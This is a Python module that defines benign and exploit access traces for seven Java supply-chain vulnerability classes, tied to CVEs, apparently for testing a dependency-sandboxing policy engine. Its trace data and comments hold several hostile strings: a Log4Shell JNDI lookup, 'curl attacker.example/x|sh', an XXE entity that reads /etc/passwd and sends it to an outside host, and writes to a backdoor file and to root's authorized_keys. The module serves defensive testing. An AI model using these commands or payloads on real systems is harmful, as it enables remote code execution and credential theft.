"""Hand-authored benign/exploit trace pairs for supply-chain vulnerability classes.

Each scenario models the resource-access shape of a known exploit: the
benign trace is what the application legitimately does, the exploit trace
replays that and then the accesses the exploit adds. Payloads and gadget
chains are not modeled, only call stacks and touched objects.
"""

from __future__ import annotations

from dataclasses import dataclass

from ztdeps.engine import AccessEvent, SpawnEvent
from ztdeps.policy import ResourceOp
from ztdeps.trace import TraceEvent

READ = ResourceOp.FS_READ
WRITE = ResourceOp.FS_WRITE
CONNECT = ResourceOp.NET_CONNECT
EXEC = ResourceOp.RUNTIME_EXEC

FILE_IN = "java.io.FileInputStream"
FILE_OUT = "java.io.FileOutputStream"
SOCKET = "java.net.Socket"
PROCESS = "java.lang.ProcessBuilder"


@dataclass(frozen=True)
class Scenario:
    name: str
    vulnerability_class: str
    cves: tuple[str, ...]
    vulnerable_namespace: str
    # Resource ops the exploit reaches for; a blocking denial must hit one.
    impact: frozenset[ResourceOp]
    manifest: tuple[str, ...]
    benign_trace: tuple[TraceEvent, ...]
    exploit_trace: tuple[TraceEvent, ...]


class _Trace:
    def __init__(self) -> None:
        self.events: list[TraceEvent] = []

    def access(self, op: ResourceOp, obj: str, *stack: str, thread: int = 0) -> _Trace:
        self.events.append(AccessEvent(len(self.events) + 1, thread, op, obj, stack))
        return self

    def spawn(self, parent: int, child: int, *stack: str) -> _Trace:
        self.events.append(SpawnEvent(len(self.events) + 1, parent, child, stack))
        return self

    def fork(self) -> _Trace:
        copy = _Trace()
        copy.events = list(self.events)
        return copy


def _deserialization() -> Scenario:
    yaml = "org.ho.yaml"
    io = "org.apache.commons.io"
    benign = (
        _Trace()
        .access(READ, "config/app.yml", FILE_IN, f"{yaml}.Yaml", "com.example.app.ConfigLoader", "com.example.app.Main")
        .access(WRITE, "app/cache/settings.bin", FILE_OUT, f"{io}.FileUtils", "com.example.app.Cache", "com.example.app.Main")
    )
    exploit = (
        benign.fork()
        # gadget instantiated during bean population runs a shell command
        .access(
            EXEC,
            "sh -c id",
            PROCESS,
            "java.lang.Runtime",
            f"{yaml}.wrapper.DefaultBeanWrapper",
            f"{yaml}.YamlDecoder",
            f"{yaml}.Yaml",
            "com.example.app.ConfigLoader",
        )
        .access(WRITE, "/tmp/.backdoor", FILE_OUT, f"{yaml}.wrapper.DefaultBeanWrapper", f"{yaml}.Yaml")
    )
    return Scenario(
        "deserialization-model",
        "deserialization",
        ("CVE-2020-8441",),
        yaml,
        frozenset({EXEC, WRITE}),
        (yaml, io),
        tuple(benign.events),
        tuple(exploit.events),
    )


def _log4shell() -> Scenario:
    log4j = "org.apache.logging.log4j.core"
    benign = (
        _Trace()
        .access(WRITE, "logs/app.log", FILE_OUT, f"{log4j}.appender.FileManager", f"{log4j}.Logger", "com.example.web.RequestHandler")
        .access(CONNECT, "syslog.internal:514", SOCKET, f"{log4j}.net.TcpSocketManager", f"{log4j}.Logger", "com.example.web.RequestHandler")
    )
    exploit = (
        benign.fork()
        # ${jndi:ldap://attacker.example:1389/a} in a logged header
        .access(
            CONNECT,
            "attacker.example:1389",
            SOCKET,
            "com.sun.jndi.ldap.LdapCtx",
            f"{log4j}.net.JndiManager",
            f"{log4j}.lookup.JndiLookup",
            f"{log4j}.Logger",
            "com.example.web.RequestHandler",
        )
        .access(
            EXEC,
            "bash -c curl attacker.example/x|sh",
            PROCESS,
            "java.lang.Runtime",
            "Exploit",
            f"{log4j}.net.JndiManager",
            f"{log4j}.lookup.JndiLookup",
        )
    )
    return Scenario(
        "log4shell-model",
        "code injection",
        ("CVE-2021-44228",),
        log4j,
        frozenset({CONNECT, EXEC}),
        (log4j,),
        tuple(benign.events),
        tuple(exploit.events),
    )


def _routing_expression() -> Scenario:
    web = "org.springframework.web"
    function = "org.springframework.cloud.function"
    spel = "org.springframework.expression"
    benign = (
        _Trace()
        .access(READ, "app/static/index.html", FILE_IN, f"{web}.servlet.resource.ResourceHttpRequestHandler", "com.example.app.Main")
        .access(
            READ,
            "app/config/functions.properties",
            FILE_IN,
            f"{function}.context.config.RoutingFunction",
            f"{web}.servlet.DispatcherServlet",
            "com.example.app.Main",
        )
    )
    exploit = (
        benign.fork()
        # spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec(...)
        .access(
            EXEC,
            "touch /tmp/pwned",
            PROCESS,
            "java.lang.Runtime",
            f"{spel}.spel.ast.MethodReference",
            f"{spel}.spel.standard.SpelExpression",
            f"{function}.context.config.RoutingFunction",
            f"{web}.servlet.DispatcherServlet",
            "com.example.app.Main",
        )
    )
    return Scenario(
        "routing-expression-model",
        "code injection",
        ("CVE-2022-22963",),
        function,
        frozenset({EXEC}),
        (web, function, spel),
        tuple(benign.events),
        tuple(exploit.events),
    )


def _interpolation() -> Scenario:
    config = "org.apache.commons.configuration2"
    benign = (
        _Trace()
        .access(READ, "conf/app.properties", FILE_IN, f"{config}.io.FileHandler", f"{config}.builder.FileBasedConfigurationBuilder", "com.example.app.Main")
    )
    exploit = (
        benign.fork()
        # ${script:javascript:java.lang.Runtime.getRuntime().exec(...)} in a property value
        .access(
            EXEC,
            "nslookup attacker.example",
            PROCESS,
            "java.lang.Runtime",
            "jdk.nashorn.internal.runtime.ScriptRuntime",
            f"{config}.interpol.ScriptLookup",
            f"{config}.interpol.ConfigurationInterpolator",
            "com.example.app.Main",
        )
    )
    return Scenario(
        "interpolation-model",
        "code injection",
        ("CVE-2022-33980",),
        config,
        frozenset({EXEC}),
        (config,),
        tuple(benign.events),
        tuple(exploit.events),
    )


def _command_injection() -> Scenario:
    jib = "com.google.cloud.tools.jib"
    benign = (
        _Trace()
        .spawn(0, 1, f"{jib}.builder.steps.StepsRunner", "com.example.build.Publisher")
        .access(EXEC, "docker load", PROCESS, f"{jib}.docker.DockerClient", f"{jib}.builder.steps.LoadDockerStep", thread=1)
        .access(WRITE, "build/jib-image.json", FILE_OUT, f"{jib}.builder.steps.StepsRunner", "com.example.build.Publisher")
    )
    exploit = (
        benign.fork()
        # attacker-controlled dockerExecutable
        .spawn(0, 2, f"{jib}.builder.steps.StepsRunner", "com.example.build.Publisher")
        .access(EXEC, "/tmp/payload.sh load", PROCESS, f"{jib}.docker.DockerClient", f"{jib}.builder.steps.LoadDockerStep", thread=2)
    )
    return Scenario(
        "command-injection-model",
        "command injection",
        ("CVE-2022-25914", "CVE-2023-39020", "CVE-2023-39021"),
        jib,
        frozenset({EXEC}),
        (jib,),
        tuple(benign.events),
        tuple(exploit.events),
    )


def _xxe() -> Scenario:
    liquibase = "liquibase"
    benign = (
        _Trace()
        .access(
            READ,
            "db/changelog/master.xml",
            FILE_IN,
            "com.sun.org.apache.xerces.internal.impl.XMLEntityManager",
            f"{liquibase}.parser.core.xml.XMLChangeLogSAXParser",
            "com.example.app.Migrations",
        )
        .access(CONNECT, "db.internal:5432", SOCKET, "org.postgresql.core.PGStream", f"{liquibase}.database.DatabaseFactory", "com.example.app.Migrations")
    )
    exploit = (
        benign.fork()
        # <!ENTITY x SYSTEM "file:///etc/passwd"> then out-of-band exfiltration
        .access(
            READ,
            "/etc/passwd",
            FILE_IN,
            "com.sun.org.apache.xerces.internal.impl.XMLEntityManager",
            f"{liquibase}.parser.core.xml.XMLChangeLogSAXParser",
            "com.example.app.Migrations",
        )
        .access(
            CONNECT,
            "attacker.example:80",
            SOCKET,
            "com.sun.org.apache.xerces.internal.impl.XMLEntityManager",
            f"{liquibase}.parser.core.xml.XMLChangeLogSAXParser",
            "com.example.app.Migrations",
        )
    )
    return Scenario(
        "xxe-model",
        "xml external entity",
        ("CVE-2022-0839", "CVE-2019-10172"),
        liquibase,
        frozenset({READ, CONNECT}),
        (liquibase, "org.postgresql"),
        tuple(benign.events),
        tuple(exploit.events),
    )


def _path_traversal() -> Scenario:
    plexus = "org.codehaus.plexus.util"
    benign = (
        _Trace()
        .access(READ, "app/data/report.csv", FILE_IN, f"{plexus}.FileUtils", "com.example.app.Reports")
        .access(WRITE, "app/data/out/report.html", FILE_OUT, f"{plexus}.FileUtils", "com.example.app.Reports")
    )
    exploit = (
        benign.fork()
        .access(READ, "/etc/passwd", FILE_IN, f"{plexus}.FileUtils", f"{plexus}.Expand", "com.example.app.Reports")
        .access(WRITE, "app/data/../../../root/.ssh/authorized_keys", FILE_OUT, f"{plexus}.Expand", "com.example.app.Reports")
    )
    return Scenario(
        "path-traversal-model",
        "path traversal",
        ("CVE-2022-4244", "CVE-2020-17518", "CVE-2020-17519"),
        plexus,
        frozenset({READ, WRITE}),
        (plexus,),
        tuple(benign.events),
        tuple(exploit.events),
    )


def builtin_scenarios() -> list[Scenario]:
    return [
        _deserialization(),
        _log4shell(),
        _routing_expression(),
        _interpolation(),
        _command_injection(),
        _xxe(),
        _path_traversal(),
    ]


def scenario(name: str) -> Scenario:
    for s in builtin_scenarios():
        if s.name == name:
            return s
    raise KeyError(name)
